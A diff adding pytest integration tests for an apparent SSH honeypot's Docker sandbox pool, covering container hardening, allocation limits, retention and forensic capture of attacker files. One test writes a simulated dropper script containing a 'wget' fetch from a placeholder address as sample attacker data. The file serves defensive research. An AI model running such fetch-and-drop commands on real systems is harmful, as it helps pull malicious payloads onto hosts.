@@ -1,0 +1,274 @@
+"""The sandbox pool against the real engine: hardening, warm-up, allocation, release, forensics."""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import hashlib
+import json
+import subprocess
+import uuid
+from collections.abc import AsyncIterator, Iterator
+from contextlib import asynccontextmanager
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from sandtrap.config import Config, parse_config
+from sandtrap.errors import PoolExhausted
+from sandtrap.events import Event
+from sandtrap.sandbox.base import SessionInfo
+from sandtrap.sandbox.docker import DockerSandbox, Engine
+from sandtrap.sandbox.pool import Pool
+from tests.conftest import IMAGE
+
+pytestmark = [pytest.mark.docker, pytest.mark.usefixtures("docker_engine")]
+
+
+class Sink:
+    def __init__(self) -> None:
+        self.events: list[Event] = []
+
+    def emit(self, event: Event) -> None:
+        self.events.append(event)
+
+    def of(self, eventid: str) -> list[Any]:
+        return [e for e in self.events if e.eventid == eventid]
+
+
+def _docker(*args: str) -> str:
+    return subprocess.run(["docker", *args], capture_output=True, text=True, check=True).stdout
+
+
+def _remove_sensor(sensor: str) -> None:
+    ids = _docker("ps", "-aq", "--filter", f"label=sandtrap.sensor={sensor}").split()
+    if ids:
+        subprocess.run(["docker", "rm", "-f", *ids], capture_output=True, check=False)
+
+
+@pytest.fixture
+def sensor() -> Iterator[str]:
+    name = f"test-{uuid.uuid4().hex[:10]}"
+    yield name
+    _remove_sensor(name)
+
+
+def make_config(sensor: str, tmp_path: Path, **sections: dict[str, Any]) -> Config:
+    data: dict[str, Any] = {
+        "sensor": sensor,
+        "pool": {"size": 2, "max_sandboxes": 4, "allocate_timeout_seconds": 5},
+        "sandbox": {"image": IMAGE, "hostnames": ["web-prod-03", "db-prod-01"]},
+        "storage": {"data_dir": str(tmp_path / "var")},
+    }
+    for key, value in sections.items():
+        data[key] = {**data.get(key, {}), **value}
+    return parse_config(data)
+
+
+@asynccontextmanager
+async def running_pool(config: Config, sink: Sink) -> AsyncIterator[Pool]:
+    engine = Engine(config.sandbox.docker_url)
+    pool = Pool(config, engine, sink)
+    started = asyncio.Event()
+    task = asyncio.create_task(pool.run(started))
+    try:
+        async with asyncio.timeout(60):
+            await started.wait()
+        yield pool
+    finally:
+        task.cancel()
+        with contextlib.suppress(asyncio.CancelledError):
+            await task
+        try:
+            await pool.shutdown()
+        finally:
+            await engine.close()
+
+
+def info(n: int = 1, ip: str = "203.0.113.10") -> SessionInfo:
+    return SessionInfo(session_id=f"{n:012x}", src_ip=ip, src_port=40000 + n, username="root")
+
+
+async def sh(sandbox: DockerSandbox, script: str, user: str = "root") -> tuple[int, str]:
+    stream = await sandbox.exec(["/bin/sh", "-c", script], user=user, tty=False)
+    out = []
+    try:
+        await stream.close_stdin()
+        while (chunk := await stream.read()) is not None:
+            out.append(chunk.data)
+        return await stream.wait(), b"".join(out).decode()
+    finally:
+        await stream.close()
+
+
+async def test_pool_warms_and_sandbox_is_hardened(sensor: str, tmp_path: Path) -> None:
+    sink = Sink()
+    config = make_config(sensor, tmp_path)
+    async with running_pool(config, sink) as pool:
+        async with asyncio.timeout(60):
+            await pool.wait_warm()
+        assert pool.statistics().idle == 2
+        sandbox = await pool.allocate(info())
+        details = json.loads(_docker("inspect", sandbox.id))[0]
+        host = details["HostConfig"]
+        assert details["State"]["Running"] is True
+        assert host["NetworkMode"] == "none"
+        assert host["Privileged"] is False
+        assert host["CapDrop"] == ["ALL"]
+        assert sorted(host["CapAdd"]) == sorted(config.sandbox.cap_add)
+        assert "no-new-privileges:true" in host["SecurityOpt"]
+        assert host["PidsLimit"] == 100
+        assert host["Memory"] == host["MemorySwap"] == 256 * 1024 * 1024
+        assert host["NanoCpus"] == 500_000_000
+        assert not details["Mounts"]
+        assert details["Config"]["Labels"]["sandtrap.sensor"] == sensor
+        assert details["Name"] == "/sandtrap-s-000000000001-203.0.113.10"
+        assert details["Config"]["Hostname"] in ("web-prod-03", "db-prod-01")
+        assert sink.of("sandbox.allocated")[0].container_id == sandbox.id
+        # The pool refills to its size behind the allocation.
+        async with asyncio.timeout(60):
+            await pool.wait_warm()
+
+
+async def test_inside_a_sandbox(sensor: str, tmp_path: Path) -> None:
+    config = make_config(sensor, tmp_path, pool={"size": 1})
+    async with running_pool(config, Sink()) as pool:
+        sandbox = await pool.allocate(info())
+        home = await sandbox.ensure_user("oracle")
+        assert home == "/home/oracle"
+        code, out = await sh(sandbox, "ls /sys/class/net; ip route; echo routes-done")
+        assert code == 0
+        assert out.split() == ["lo", "routes-done"]
+        code, out = await sh(sandbox, "test -e /.dockerenv && echo present || echo absent")
+        assert out.strip() == "absent"
+        code, out = await sh(sandbox, "hostname; cat /etc/hostname")
+        assert out.split() == [sandbox.hostname, sandbox.hostname]
+        code, out = await sh(sandbox, "id -un; echo $HOME; pwd", user="oracle")
+        assert out.split()[0] == "oracle"
+        code, out = await sh(sandbox, "ps -eo pid,args | awk '$1==1'")
+        assert out.split()[1] == "/sbin/init"
+        code, out = await sh(sandbox, "ps -eo args")
+        for tell in ("tini", "docker-init", "sleep infinity"):
+            assert tell not in out
+        # Capabilities: exactly the configured set, nothing more.
+        code, out = await sh(sandbox, "grep CapEff /proc/self/status")
+        effective = int(out.split()[1], 16)
+        allowed = {"CHOWN": 0, "DAC_OVERRIDE": 1, "FOWNER": 3, "KILL": 5, "SETGID": 6, "SETUID": 7}
+        expected = sum(1 << allowed[name] for name in config.sandbox.cap_add)
+        assert effective == expected
+        code, out = await sh(sandbox, "mount -t tmpfs none /mnt 2>&1; echo rc=$?")
+        assert "rc=0" not in out
+
+
+async def test_release_keeps_container_and_captures_files(sensor: str, tmp_path: Path) -> None:
+    sink = Sink()
+    config = make_config(sensor, tmp_path, pool={"size": 1})
+    async with running_pool(config, sink) as pool:
+        session = info(7)
+        sandbox = await pool.allocate(session)
+        await sandbox.ensure_user("root")
+        payload = b"#!/bin/sh\n# dropped by the attacker\nwget http://203.0.113.1/x\n"
+        stream = await sandbox.exec(
+            ["/bin/sh", "-c", "cat > /tmp/dropper.sh"], user="root", tty=False
+        )
+        await stream.write(payload)
+        await stream.close_stdin()
+        while await stream.read() is not None:
+            pass
+        assert await stream.wait() == 0
+        await stream.close()
+        await sh(sandbox, "rm /etc/issue.net; mkdir -p /root/.x && echo hi > /root/.x/y")
+        await pool.release(sandbox, session)
+    state = json.loads(_docker("inspect", sandbox.id))[0]["State"]
+    assert state["Running"] is False  # stopped, not removed
+    diff = sink.of("sandbox.diff")[0]
+    kinds = {c["path"]: c["kind"] for c in diff.changes}
+    assert kinds["/tmp/dropper.sh"] == "added"
+    assert kinds["/etc/issue.net"] == "deleted"
+    assert "/.dockerenv" not in kinds  # our own preparation is not the attacker's doing
+    artifacts = {a.path: a for a in sink.of("sandbox.artifact")}
+    dropped = artifacts["/tmp/dropper.sh"]
+    assert dropped.sha256 == hashlib.sha256(payload).hexdigest()
+    stored = tmp_path / "var" / "artifacts" / dropped.sha256
+    assert stored.read_bytes() == payload
+    assert sink.of("sandbox.released")[0].stopped is True
+
+
+async def test_max_sandboxes_and_allocation_timeout(sensor: str, tmp_path: Path) -> None:
+    config = make_config(
+        sensor, tmp_path, pool={"size": 1, "max_sandboxes": 2, "allocate_timeout_seconds": 1.5}
+    )
+    async with running_pool(config, Sink()) as pool:
+        first = await pool.allocate(info(1))
+        second = await pool.allocate(info(2))
+        assert first.id != second.id
+        loop = asyncio.get_running_loop()
+        started = loop.time()
+        with pytest.raises(PoolExhausted):
+            await pool.allocate(info(3))
+        assert loop.time() - started >= 1.4
+        running = _docker("ps", "-q", "--filter", f"label=sandtrap.sensor={sensor}").split()
+        assert len(running) == 2
+        # Releasing one makes room again.
+        await pool.release(first, info(1))
+        third = await pool.allocate(info(3))
+        assert third.id not in (first.id, second.id)
+
+
+async def test_restart_reconciles_and_retention_prunes(sensor: str, tmp_path: Path) -> None:
+    sink = Sink()
+    config = make_config(sensor, tmp_path, pool={"size": 2})
+    engine = Engine(config.sandbox.docker_url)
+    pool = Pool(config, engine, sink)
+    task = asyncio.create_task(pool.run())
+    await asyncio.wait_for(pool.wait_warm(), 60)
+    kept = []
+    for n in (1, 2, 3):
+        sandbox = await pool.allocate(info(n))
+        kept.append(sandbox.id)
+        if n < 3:
+            await pool.release(sandbox, info(n))
+    # Simulate a crash: the task dies without shutdown(); pool members and one live session remain.
+    task.cancel()
+    with pytest.raises(asyncio.CancelledError):
+        await task
+    await engine.close()
+    names = _docker(
+        "ps", "-a", "--format", "{{.Names}}", "--filter", f"label=sandtrap.sensor={sensor}"
+    )
+    assert any(name.startswith("sandtrap-pool-") for name in names.split())
+
+    sink2 = Sink()
+    small = make_config(sensor, tmp_path, pool={"size": 0}, retention={"max_count": 2})
+    async with running_pool(small, sink2) as pool2:
+        assert pool2.statistics().idle == 0
+    left = _docker(
+        "ps",
+        "-a",
+        "--format",
+        "{{.ID}} {{.Names}} {{.State}}",
+        "--filter",
+        f"label=sandtrap.sensor={sensor}",
+    ).splitlines()
+    assert not [line for line in left if "sandtrap-pool-" in line]
+    kept_now = {line.split()[0] for line in left}
+    # Three session sandboxes existed; max_count=2 removed the oldest, the other two stay stopped.
+    assert len(left) == 2
+    assert all(line.endswith("exited") for line in left)
+    assert not any(cid.startswith(kept[0][:12]) for cid in kept_now)
+    assert [e.reason for e in sink2.of("sandbox.pruned")] == ["max_count"]
+
+
+async def test_sticky_mode_returns_the_same_sandbox(sensor: str, tmp_path: Path) -> None:
+    config = make_config(sensor, tmp_path, pool={"size": 1, "sticky": True})
+    async with running_pool(config, Sink()) as pool:
+        first = await pool.allocate(info(1, ip="198.51.100.4"))
+        await sh(first, "echo left-behind > /root/note")
+        await pool.release(first, info(1, ip="198.51.100.4"))
+        again = await pool.allocate(info(2, ip="198.51.100.4"))
+        assert again.id == first.id
+        _, out = await sh(again, "cat /root/note")
+        assert out.strip() == "left-behind"
+        other = await pool.allocate(info(3, ip="198.51.100.5"))
+        assert other.id != first.id
